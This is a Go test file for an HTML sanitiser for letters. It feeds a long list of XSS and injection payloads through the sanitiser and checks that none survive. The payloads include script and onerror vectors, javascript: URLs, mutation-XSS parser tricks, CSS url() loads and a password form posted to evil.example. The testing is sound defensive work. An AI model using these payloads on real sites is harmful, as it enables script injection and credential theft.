package console

import (
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
)

// attacks are what letters have been made of to run, load, lead or cover something.
var attacks = []string{
	`<script>alert(1)</script>`, `<SCRIPT/x>alert(1)</SCRIPT>`, `<scr<script>ipt>alert(1)</script>`, `<script src=//evil.example/x.js></script>`,
	`<img src=x onerror=alert(1)>`, `<img src="https://evil.example/p.gif">`, `<img srcset="https://evil.example/p 2x">`, `<input type=image src=https://evil.example/p>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,x"/></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>`,
	`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`, `<plaintext><img src=x onerror=alert(1)>`, `<!--><img src=x onerror=alert(1)>-->`, `<!--!><script>alert(1)</script>`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`, `<?xml-stylesheet href="javascript:alert(1)"?>`, `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<base href="https://evil.example/">`, `<link rel=stylesheet href="https://evil.example/x.css">`,
	`<link rel=dns-prefetch href="//evil.example">`, `<style>@import "https://evil.example/x.css";</style>`, `<style>p{background:url(https://evil.example/)}</style>`,
	`<p style="background:url(https://evil.example/)">x</p>`, `<p style="background-color:url(https://evil.example/)">x</p>`, `<p style="color:red;background-image:url('//evil.example/x')">x</p>`,
	`<p style="color:expression(alert(1))">x</p>`, `<p style="color:r\65 d;position:\66ixed">x</p>`, `<p style="color:red}body{background:url(//evil.example)">x</p>`,
	`<p style="color:/*</style><script>alert(1)</script>*/red">x</p>`, `<p style="color:var(--x,url(//evil.example))">x</p>`, `<p style="color:rgb(1,2,3);-moz-binding:url(//evil.example)">x</p>`,
	`<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;opacity:0">x</div>`, `<div style="margin:-999px;transform:scale(99)">x</div>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="https://evil.example/" target=_top>x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a ping="https://evil.example/" download>x</a>`,
	`<area href="https://evil.example/">`, `<form action="https://evil.example/"><input name=password><button formaction="javascript:alert(1)">x</button></form>`,
	`<iframe src="https://evil.example/"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="data:text/html,<script>alert(1)</script>"></object>`, `<embed src="https://evil.example/x.swf">`,
	`<frameset onload=alert(1)><frame src="https://evil.example/"></frameset>`, `<body onload=alert(1) background="https://evil.example/">`, `<table background="https://evil.example/"><tr><td bgcolor="red;background:url(x)">x</table>`,
	`<video src="https://evil.example/" poster="https://evil.example/" autoplay></video>`, `<audio src=x onerror=alert(1)>`, `<details open ontoggle=alert(1)>x</details>`, `<marquee onstart=alert(1)>x</marquee>`,
	`<p id=main name=body class=decide>x</p>`, `<p contenteditable onfocus=alert(1) autofocus tabindex=1>x</p>`, `<p is=x slot=y part=z>x</p>`, `<template><img src=x onerror=alert(1)></template>`,
	`<a href="jav&#x09;ascript:alert(1)">x</a>`, "<a href=\"\x01javascript:alert(1)\">x</a>", `<p/onclick=alert(1)>x</p>`, "<p \x00onclick=alert(1)>x</p>", `<img src="cid:picture">`,
	`<portal src="https://evil.example/">`, `<p style="color:red" style="position:fixed">x</p>`, `<font color="red" face="x" style="behavior:url(x)">x</font>`, `<isindex action="javascript:alert(1)">`,
	`</body></html><script>alert(1)</script>`, `<p title="` + "`" + `><script>alert(1)</script>">x</p>`, `<selectedcontent><option><img src=x onerror=alert(1)>`,
}

// allowed is all that may be left, whoever wrote it and however.
var allowedAttributes = map[string]bool{
	"align": true, "dir": true, "lang": true, "colspan": true, "rowspan": true, "border": true, "color": true, "bgcolor": true, "style": true,
}

var allowedElements = func() map[string]bool {
	all := map[string]bool{"html": true, "head": true, "body": true}
	for _, e := range strings.Fields("p br div span blockquote pre hr h1 h2 h3 h4 h5 h6 center b strong i em u s strike del ins sub sup small big tt code font mark q cite ul ol li dl dt dd a table caption thead tbody tfoot tr td th colgroup col") {
		all[e] = true
	}
	return all
}()

// harmless parses what is left as a browser does, twice, and finds what is not on the
// list: a second parse sees what only the first writing out would have made.
func harmless(t *testing.T, from, left string) {
	t.Helper()
	for range 2 {
		doc, err := html.Parse(strings.NewReader(left))
		if err != nil {
			t.Fatal(err)
		}
		for n := range doc.Descendants() {
			if n.Type == html.CommentNode || n.Type == html.ElementNode && (!allowedElements[n.Data] || n.Namespace != "") {
				t.Errorf("%.200q leaves %q: %q", from, n.Data, left)
			}
			for _, a := range n.Attr {
				if !allowedAttributes[a.Key] || strings.ContainsAny(a.Val, `\/<>"'@{}`) || strings.Contains(strings.ToLower(a.Val), "url") || strings.Contains(a.Val, "position") {
					t.Errorf("%.200q leaves %s=%q", from, a.Key, a.Val)
				}
			}
		}
		var b strings.Builder
		if err := html.Render(&b, doc); err != nil {
			t.Fatal(err)
		}
		left = b.String()
	}
}

func TestNothingOfAnAttackIsLeft(t *testing.T) {
	for _, attack := range attacks {
		for _, around := range []string{"%", "<p>%</p>", "<table><tr><td>%", "<svg>%</svg>", "<math><mtext>%", "<select><option>%", "<p style=\"%\">"} {
			letter := strings.ReplaceAll(around, "%", attack)
			harmless(t, letter, sanitise(letter))
		}
	}
	all := strings.Join(attacks, "\n")
	harmless(t, "all of them", sanitise(all))
}

// What a letter says and how it is laid out stays, hidden or not.
func TestALetterKeepsItsLook(t *testing.T) {
	for in, want := range map[string]string{
		`<table border=1><tr><td colspan=2 align=center><b>Аты</b></td></tr></table>`: `<table border="1"><tr><td colspan="2" align="center"><b>Аты</b></td></tr></table>`,
		`<p style="color:#FF0000;font-family:Arial;mso-x:y">қызыл</p>`:                `<p style="color: #FF0000">қызыл</p>`,
		`<font color=red face=Arial>қызыл</font>`:                                     `<font color="red">қызыл</font>`,
		`<a href="https://otinish.example/">сілтеме</a>`:                              `<a>сілтеме</a>`,
		`<div style="display:none">жасырын</div>`:                                     `<div>жасырын</div>`,
		`<html><head><title>t</title><style>p{}</style><body><p>мәтін`:                `<p>мәтін`,
		`<p>a &lt;b&gt; &amp; c</p>`:                                                  `<p>a &lt;b&gt; &amp; c</p>`,
		`<object><p>сөздер`:                                                           `<p>сөздер`,
		`<blockquote type=cite><ul><li>бір<li>екі</ul></blockquote>`:                  `<blockquote><ul><li>бір<li>екі</ul></blockquote>`,
		`<span style="text-decoration:line-through; font-weight:bold">ескі</span>`:    `<span style="text-decoration: line-through; font-weight: bold">ескі</span>`,
		`<img src="cid:logo" alt="Логотип">`:                                          ``,
		`<p style="Background-Color:rgb(255, 255, 0)">сары</p>`:                       `<p style="background-color: rgb(255, 255, 0)">сары</p>`,
	} {
		if got := sanitise(in); got != want {
			t.Errorf("%s\n got %s\nwant %s", in, got, want)
		}
	}
}

// Whoever writes a letter to keep us busy gets little of it.
func TestSanitisingTakesNotForEver(t *testing.T) {
	const size = 1 << 20
	for name, part := range map[string]string{
		"open tags": "<b>", "open tables": "<table><tr><td>", "a long style": "color:red;", "an open string": `'`, "open comments": "/*", "escapes": `\`, "brackets": "rgb(", "attributes": "a=b ", "ands": "&", "less than": "<",
	} {
		for around, letter := range map[string]string{"text": strings.Repeat(part, size/len(part)), "style": `<p style="` + strings.Repeat(part, size/len(part)) + `">`, "tag": "<p " + strings.Repeat(part, size/len(part)) + ">"} {
			start := time.Now()
			sanitise(letter)
			if took := time.Since(start); took > 5*time.Second {
				t.Errorf("%s as %s: %v", name, around, took)
			} else if took > 300*time.Millisecond {
				t.Logf("%s as %s: %v", name, around, took)
			}
		}
	}
}

func FuzzSanitise(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	f.Fuzz(func(t *testing.T, letter string) { harmless(t, letter, sanitise(letter)) })
}
